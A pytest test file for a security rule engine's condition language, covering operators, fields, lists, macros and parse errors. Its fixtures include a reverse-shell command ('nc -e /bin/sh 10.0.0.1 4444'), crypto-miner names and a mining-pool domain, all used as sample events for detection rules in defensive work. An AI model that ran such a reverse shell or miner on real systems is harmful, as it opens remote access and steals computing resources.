"""Condition language: parsing, operators, fields, lists, macros and their errors."""

from __future__ import annotations

from typing import Any

import pytest

from rollcage.rules.condition import Compiler, ConditionError
from rollcage.rules.fields import command_view

from .test_rules_support import command_event, event, exec_event


def check(condition: str, ev: dict[str, Any], *, lists=None, macros=None) -> bool:
    compiled = Compiler(lists or {}, macros or {}).compile(condition)
    views = [command_view(c) for c in ev.get("commands", [])] or [{}]
    generic = any(compiled.predicate(ev, v) for v in views)
    specialised = compiled.predicate_for(ev["type"])
    typed = specialised is not None and any(specialised(ev, v) for v in views)
    assert generic == typed, "type specialisation changed the result"
    return generic


FLOW = event(
    "flow",
    dst_ip="10.1.2.3",
    dst_port=3333,
    protocol="stratum",
    domain="pool.minexmr.com",
    decision="deny",
    indicators=["stratum", "mining_port"],
    bytes_out=10,
)


@pytest.mark.parametrize(
    ("condition", "expected"),
    [
        ("flow.dst_port = 3333", True),
        ("flow.dst_port == 3333", True),
        ("flow.dst_port != 3333", False),
        ("flow.dst_port > 3332 and flow.dst_port < 3334", True),
        ("flow.dst_port >= 3334", False),
        ("flow.dst_port <= 3333", True),
        ("flow.protocol in (ssh, stratum)", True),
        ("flow.protocol in (ssh, tls)", False),
        ("flow.domain startswith pool.", True),
        ("flow.domain endswith .minexmr.com", True),
        ("flow.domain endswith (.a.com, .minexmr.com)", True),
        ("flow.domain contains minexmr", True),
        ("flow.domain icontains MINEXMR", True),
        ("flow.domain contains MINEXMR", False),
        ("flow.domain glob '*.minexmr.*'", True),
        ("flow.domain glob 'minexmr*'", False),
        ("flow.domain regex '^pool\\.[a-z]+\\.com$'", True),
        ("flow.dst_ip cidr 10.0.0.0/8", True),
        ("flow.dst_ip cidr (192.168.0.0/16, 172.16.0.0/12)", False),
        ("flow.indicators contains stratum", True),
        ("flow.indicators = mining_port", True),
        ("flow.indicators != scan", True),
        ("flow.indicators != stratum", False),
        ("flow.indicators intersects (scan, stratum)", True),
        ("flow.indicators in (scan, internal)", False),
        ("flow.reason exists", False),
        ("flow.domain exists", True),
        ("not flow.reason = x", True),  # missing field: the comparison is false, not its negation
        ("flow.reason != x", False),
        ("not (flow.dst_port = 1 or flow.dst_port = 2) and flow.decision = deny", True),
        ("flow.dst_port = 1 or flow.dst_port = 2 and flow.decision = deny", False),
        ("evt.type = flow", True),
        ("evt.type in (exec, command)", False),
        ('flow.domain = "pool.minexmr.com"', True),
        ("flow.domain = 'pool.minexmr.com'", True),
    ],
)
def test_operators_on_a_flow_event(condition: str, expected: bool) -> None:
    assert check(condition, FLOW) is expected


def test_and_binds_tighter_than_or_and_not_tighter_than_and() -> None:
    ev = event("flow", dst_port=1, decision="allow")
    assert check("flow.dst_port = 1 or flow.dst_port = 2 and flow.decision = deny", ev)
    assert not check("(flow.dst_port = 1 or flow.dst_port = 2) and flow.decision = deny", ev)
    assert not check("not flow.dst_port = 1 and flow.decision = allow", ev)


def test_fields_of_other_event_types_never_match() -> None:
    ev = exec_event(["xmrig", "-o", "pool:3333"])
    assert not check("flow.dst_port = 3333", ev)
    assert not check("cmd.name = xmrig", ev)
    assert check("proc.name = xmrig", ev)


def test_command_fields_are_per_simple_command() -> None:
    ev = command_event("echo hi | nc -e /bin/sh 10.0.0.1 4444")
    assert check("cmd.name = nc and cmd.argv = -e", ev)
    assert not check("cmd.name = echo and cmd.argv = -e", ev)
    assert check("cmd.args = '-e /bin/sh 10.0.0.1 4444'", ev)
    assert check("cmd.argv[0] = nc and cmd.argv[1] = -e", ev)
    assert not check("cmd.argv[9] exists", ev)
    assert check("cmd.line contains 'echo hi |'", ev)
    assert check("cmd.source = direct", ev)


def test_command_name_is_the_basename() -> None:
    ev = command_event("/usr/local/bin/xmrig --help")
    assert check("cmd.name = xmrig", ev)
    assert check("cmd.path = /usr/local/bin/xmrig", ev)


def test_exec_fields() -> None:
    ev = exec_event(["python3", "-c", "print(1)"], exe="/usr/bin/python3.11", pid=77)
    assert check("proc.name = python3.11 and proc.pid = 77", ev)
    assert check("proc.args = '-c print(1)'", ev)
    assert check("proc.exe pmatch (/usr/bin)", ev)
    assert not check("proc.exe pmatch (/usr/b)", ev)
    assert check("proc.cmdline startswith python3", ev)
    assert check("proc.argv[2] = 'print(1)'", ev)


def test_bool_and_derived_gpu_fields() -> None:
    ev = event("gpu", util=95, memory_bytes=10, budget_bytes=5, expected=False, pid=1, cmdline="x")
    assert check("gpu.expected = false and gpu.util >= 90", ev)
    assert not check("gpu.expected = true", ev)
    assert check("gpu.over_budget = true", ev)
    assert not check("gpu.over_budget = true", event("gpu", memory_bytes=1, budget_bytes=5))
    assert not check("gpu.over_budget exists", event("gpu", memory_bytes=1))


def test_odd_values_do_not_raise() -> None:
    ev = event("flow", dst_port="not a number", dst_ip=None, indicators="stratum")
    assert not check("flow.dst_port > 5", ev)
    assert not check("flow.dst_ip cidr 10.0.0.0/8", ev)
    assert check("flow.indicators = stratum", ev)  # a scalar where a list is expected still works
    assert not check("flow.dst_ip cidr 10.0.0.0/8", event("flow", dst_ip="10.0.0.999"))


def test_lists_expand_inside_parentheses_and_by_name() -> None:
    lists = {"miners": ["xmrig", "minerd"], "more": ["cpuminer", "miners"]}
    ev = exec_event(["minerd"])
    assert check("proc.name in miners", ev, lists=lists)
    assert check("proc.name in (foo, miners)", ev, lists=lists)
    assert check("proc.args contains (miners)", exec_event(["sh", "-c", "xmrig -o x"]), lists=lists)
    with pytest.raises(ConditionError, match="undefined list 'nolist'"):
        Compiler(lists, {}).compile("proc.name in nolist")


def test_macros_compose_and_errors_name_them() -> None:
    macros = {"is_exec": "evt.type = exec", "miner": "is_exec and proc.name in (xmrig)", "bad": "proc.nope = 1"}
    compiler = Compiler({}, macros)
    assert compiler.compile("miner").predicate(exec_event(["xmrig"]), {})
    assert not compiler.compile("miner").predicate(exec_event(["ls"]), {})
    with pytest.raises(ConditionError, match="undefined macro 'nothere'"):
        compiler.compile("miner and nothere")
    with pytest.raises(ConditionError, match=r"in macro 'bad': unknown field 'proc\.nope'"):
        compiler.compile("bad")


def test_macro_recursion_is_a_clear_error() -> None:
    compiler = Compiler({}, {"a": "b or proc.name = x", "b": "c", "c": "a"})
    with pytest.raises(ConditionError, match=r"macro recursion: a -> b -> c -> a"):
        compiler.compile("a")
    with pytest.raises(ConditionError, match="macro recursion: self -> self"):
        Compiler({}, {"self": "self"}).compile("self")


def test_exponential_macro_chains_stay_small() -> None:
    macros = {"m0": "proc.name = x"}
    for i in range(1, 40):
        macros[f"m{i}"] = f"m{i - 1} and m{i - 1}"
    compiled = Compiler({}, macros).compile("m39")
    assert compiled.predicate(exec_event(["x"]), {})
    assert not compiled.predicate(exec_event(["y"]), {})


@pytest.mark.parametrize(
    ("condition", "message"),
    [
        ("proc.nmae = x", "unknown field 'proc.nmae'"),
        ("proc.name ~= x", "unexpected '~='"),
        ("proc.name = x )", "unexpected"),
        ("proc.name likes x", "expected an operator"),
        ("proc.name =", "ends unexpectedly"),
        ("(proc.name = x", "ends unexpectedly"),
        ("proc.name = x y", "unexpected 'y'"),
        ("flow.dst_port > abc", "needs a number"),
        ("flow.dst_port = abc", "is a number"),
        ("gpu.expected = maybe", "true or false"),
        ("proc.name regex '('", "bad regex"),
        ("flow.dst_ip cidr not-a-net", "bad network"),
        ("flow.dst_port > (1, 2)", "takes one number"),
        ("", "empty"),
        ("x" * 30000, "longer than"),
        ("not " * 3000 + "proc.name = x", "nested too deeply"),
    ],
)
def test_condition_errors_are_clear(condition: str, message: str) -> None:
    with pytest.raises(ConditionError, match=message):
        Compiler({}, {}).compile(condition)


def test_deep_parentheses_are_fine() -> None:
    compiled = Compiler({}, {}).compile("(" * 3000 + "proc.name = x" + ")" * 3000)
    assert compiled.predicate(exec_event(["x"]), {})


def test_memoised_line_fields_track_each_event() -> None:
    compiled = Compiler({}, {}).compile("cmd.line contains evil")
    a, b = command_event("echo evil; ls"), command_event("echo good; ls")
    for _ in range(2):
        assert any(compiled.predicate(a, command_view(c)) for c in a["commands"])
        assert not any(compiled.predicate(b, command_view(c)) for c in b["commands"])
